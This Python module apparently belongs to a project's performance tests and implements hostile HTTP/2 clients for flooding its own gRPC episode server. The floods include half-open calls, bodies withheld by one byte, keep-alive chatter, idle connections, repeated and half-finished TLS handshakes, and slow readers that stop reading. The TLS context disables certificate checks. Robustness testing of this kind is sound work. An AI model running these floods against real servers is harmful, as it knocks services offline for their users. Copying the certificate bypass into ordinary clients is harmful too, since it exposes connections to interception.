"""Hostile clients that speak as much HTTP/2 as they need: ``python -m perf.flooding NAME ADDRESS``.

Each goes on until it is killed, and does again whatever the server has refused. An address that
begins with ``tls://`` is one of a server with a certificate, of which nothing is checked.
"""

import asyncio
import ssl
import sys
from collections import deque
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import cache
from typing import cast

from bridge.rpc._pb.luban.v1 import episode_pb2
from bridge.rpc._pb.luban.v1 import episode_service_pb2 as pb
from bridge.rpc.access import KEY
from bridge.rpc.http2.frames import (
    DEFAULT_WINDOW,
    MAX_FRAME,
    MAX_WINDOW,
    PREFACE,
    Flag,
    Kind,
    Setting,
    encode_headers,
    pack_frame,
    pack_settings,
)

__all__ = ["FLOODS", "TLS", "TLS_FLOODS", "RawClient", "pack_message"]

STEP, PLAY = b"/luban.v1.EpisodeService/Step", b"/luban.v1.EpisodeService/Play"
OBSERVE = b"/luban.v1.EpisodeService/Observe"
HALF_CALLS = 5400
BODIES = 64
BODY = 16 * 2**20
STREAMS = 1151
CHATTER = 1.0
"""Seconds between two empty requests of a stream."""
CONNECTIONS = 4150
READERS = 12
PACE = 1000
"""Calls or connections that one flood begins in a second."""


TLS = "tls://"
HELLO = bytes.fromhex("16030102000100")
"""The beginning of a ``ClientHello`` of 512 bytes."""
HANDSHAKES = 32
"""Clients that shake hands at once, each over and over."""


@cache
def _trust_all() -> ssl.SSLContext:
    """For a client that asks nothing of the server's certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def _split_address(address: str) -> tuple[str, int]:
    """Return host and port."""
    host, _, port = address.removeprefix(TLS).rpartition(":")
    return host, int(port)


class RawClient(asyncio.Protocol):
    """A connection of a hostile client.

    Attributes:
        ended: streams that the server has ended, oldest first.
        is_lost: whether the server has closed the connection.
        windows: bytes that each stream, and stream 0 for all, may still send.
        goodbye: what the server said before it closed the connection.
    """

    def __init__(self, settings: dict[Setting, int] | None = None) -> None:
        self._settings = settings or {}
        self.ended: deque[int] = deque()
        self.trailers: dict[int, bytes] = {}
        self.is_lost = False
        self.goodbye = b""
        self.windows = {0: DEFAULT_WINDOW}
        self.received: dict[int, int] = {}
        self._next = 1
        self._rest = b""
        self._transport: asyncio.Transport | None = None

    @staticmethod
    async def open(address: str, settings: dict[Setting, int] | None = None) -> "RawClient":
        """Connect."""
        loop = asyncio.get_running_loop()
        encrypted = _trust_all() if address.startswith(TLS) else None
        _, client = await loop.create_connection(
            lambda: RawClient(settings), *_split_address(address), ssl=encrypted
        )
        return client

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Greet the server."""
        self._transport = cast(asyncio.Transport, transport)
        self.send(PREFACE + pack_settings(self._settings))

    def connection_lost(self, error: Exception | None) -> None:
        """Note it."""
        self.is_lost = True

    def data_received(self, data: bytes) -> None:
        """Obey as far as that serves the attack."""
        data = self._rest + data
        start = 0
        while len(data) - start >= 9:
            after = start + 9 + int.from_bytes(data[start : start + 3], "big")
            if after > len(data):
                break
            kind, flags = data[start + 3], data[start + 4]
            stream = int.from_bytes(data[start + 5 : start + 9], "big")
            self._take(kind, flags, stream, data[start + 9 : after])
            start = after
        self._rest = data[start:]

    def send(self, data: bytes) -> None:
        """Send frames."""
        if self._transport is not None and not self._transport.is_closing():
            self._transport.write(data)

    def begin(self, path: bytes, key: str = "") -> int:
        """Send the headers of a call; return its stream."""
        stream, self._next = self._next, self._next + 2
        self.windows[stream] = DEFAULT_WINDOW
        headers = [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b":authority", b"localhost"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
        if key:
            headers.append((KEY.encode(), key.encode()))
        self.send(pack_frame(Kind.HEADERS, Flag.END_HEADERS, stream, encode_headers(headers)))
        return stream

    def put(self, stream: int, data: bytes, *, end: bool = False) -> int:
        """Send of some data what flow control lets through; return how much that was."""
        size = min(len(data), self.windows[0], self.windows.get(stream, 0), MAX_FRAME)
        if size > 0 or end:
            self.windows[0] -= size
            self.windows[stream] -= size
            self.send(pack_frame(Kind.DATA, Flag.END_STREAM if end else 0, stream, data[:size]))
        return max(0, size)

    def stop_reading(self) -> None:
        """Take nothing more from the socket."""
        if self._transport is not None:
            self._transport.pause_reading()

    def close(self) -> None:
        """Hang up."""
        if self._transport is not None:
            self._transport.abort()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == Kind.SETTINGS and not flags & Flag.ACK:
            self.send(pack_frame(Kind.SETTINGS, Flag.ACK, 0))
        elif kind == Kind.PING and not flags & Flag.ACK:
            self.send(pack_frame(Kind.PING, Flag.ACK, 0, payload))
        elif kind == Kind.WINDOW_UPDATE:
            self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload, "big")
        elif kind == Kind.GOAWAY:
            self.goodbye = payload
        elif kind == Kind.DATA:
            self.received[stream] = self.received.get(stream, 0) + len(payload)
        elif kind == Kind.HEADERS:
            self.trailers[stream] = payload
        over = kind == Kind.RST_STREAM or (kind == Kind.HEADERS and flags & Flag.END_STREAM)
        if over and self.windows.pop(stream, None) is not None:
            self.ended.append(stream)


def pack_message(content: bytes, length: int | None = None) -> bytes:
    """Return the bytes of a request, which may claim another length."""
    return b"\0" + (len(content) if length is None else length).to_bytes(4, "big") + content


async def _again(address: str, attack: Callable[[RawClient], Awaitable[None]]) -> None:
    """Attack over one connection; over another one when it is closed."""
    while True:
        with suppress(OSError):
            client = await RawClient.open(address)
            await attack(client)
        await asyncio.sleep(0.1)


async def half_calls(address: str, count: int = HALF_CALLS) -> None:
    """Hold calls whose request never comes, over one connection."""

    async def attack(client: RawClient) -> None:
        under_way = 0
        while not client.is_lost:
            under_way -= len(client.ended)
            client.ended.clear()
            for _ in range(min(PACE // 20, count - under_way)):
                client.begin(STEP)
                under_way += 1
            await asyncio.sleep(0.05)

    await _again(address, attack)


async def unfinished_bodies(address: str, count: int = BODIES) -> None:
    """Send all of large requests but their last byte."""
    prefix = pack_message(b"", BODY)

    async def attack(client: RawClient) -> None:
        sent: dict[int, int] = {}
        while not client.is_lost:
            while client.ended:
                sent.pop(client.ended.popleft(), None)
            while len(sent) < count // 4:
                stream = client.begin(STEP)
                sent[stream] = client.put(stream, prefix)
            for stream, done in list(sent.items()):
                if done < len(prefix) + BODY - 1:
                    left = min(MAX_FRAME, len(prefix) + BODY - 1 - done)
                    sent[stream] += client.put(stream, bytes(left))
            await asyncio.sleep(0.01)

    await asyncio.gather(*(_again(address, attack) for _ in range(4)))


async def chatty_streams(address: str, count: int = STREAMS) -> None:
    """Keep streams alive by empty requests."""

    async def attack(client: RawClient) -> None:
        streams: dict[int, None] = {}
        while not client.is_lost:
            while client.ended:
                streams.pop(client.ended.popleft(), None)
            while len(streams) < count // 20:
                streams[client.begin(PLAY)] = None
            for stream in streams:
                client.put(stream, pack_message(b""))
            await asyncio.sleep(CHATTER)

    await asyncio.gather(*(_again(address, attack) for _ in range(20)))


async def silent_connections(address: str, count: int = CONNECTIONS) -> None:
    """Hold connections over which only the preface came."""
    clients: deque[RawClient] = deque()
    while True:
        while clients and clients[0].is_lost:
            clients.popleft()
        for _ in range(min(PACE // 20, count - len(clients))):
            with suppress(OSError):
                clients.append(await RawClient.open(address))
        clients = deque(client for client in clients if not client.is_lost)
        await asyncio.sleep(0.05)


async def handshakes(address: str, count: int = HANDSHAKES) -> None:
    """Agree on encryption as often as the server does, and hang up."""

    async def agree() -> None:
        while True:
            try:
                (await RawClient.open(address)).close()
            except OSError:
                await asyncio.sleep(0.1)

    await asyncio.gather(*(agree() for _ in range(count)))


async def half_handshakes(address: str, count: int = CONNECTIONS) -> None:
    """Hold connections over which the beginning of a handshake came, and nothing after it."""
    held: deque[asyncio.StreamWriter] = deque(maxlen=count)
    while True:
        for _ in range(PACE // 20):
            with suppress(OSError):
                _, writer = await asyncio.open_connection(*_split_address(address))
                writer.write(HELLO)
                if len(held) == count:
                    held[0].close()
                held.append(writer)
        await asyncio.sleep(0.05)


async def slow_readers(address: str, key: str, count: int = READERS) -> None:
    """Ask for large pictures, and take nothing of them."""
    options = episode_pb2.EpisodeOptions(
        mode=episode_pb2.OBSERVATION_MODE_IMAGE,
        picture_format=episode_pb2.PICTURE_FORMAT_RAW,
        picture_size=1024,
    )
    start = pb.StartEpisodeRequest(level_id="burr-three-bars", options=options)
    requests = (
        pb.PlayRequest(start_episode=start),
        *[pb.PlayRequest(observe=pb.ObserveRequest())] * 3,
    )

    async def attack(client: RawClient) -> None:
        # With windows as wide as they can be the socket alone holds the answers back.
        client.send(pack_settings({Setting.INITIAL_WINDOW_SIZE: MAX_WINDOW}))
        size = (MAX_WINDOW - DEFAULT_WINDOW).to_bytes(4, "big")
        client.send(pack_frame(Kind.WINDOW_UPDATE, 0, 0, size))
        stream = client.begin(PLAY, key)
        for request in requests:
            client.put(stream, pack_message(request.SerializeToString()))
        client.stop_reading()
        while not client.is_lost:
            await asyncio.sleep(0.1)

    await asyncio.gather(*(_again(address, attack) for _ in range(count)))


FLOODS: dict[str, Callable[[str], Awaitable[None]]] = {
    "half-calls": half_calls,
    "unfinished-bodies": unfinished_bodies,
    "chatty-streams": chatty_streams,
    "silent-connections": silent_connections,
}
"""Floods for which nobody needs a key."""
TLS_FLOODS: dict[str, Callable[[str], Awaitable[None]]] = {
    "handshakes": handshakes,
    "half-handshakes": half_handshakes,
}
"""Further ones, of servers with a certificate."""


async def _flood(name: str, address: str, key: str = "") -> None:
    await (slow_readers(address, key) if key else (FLOODS | TLS_FLOODS)[name](address))


if __name__ == "__main__":
    asyncio.run(_flood(*sys.argv[1:]))
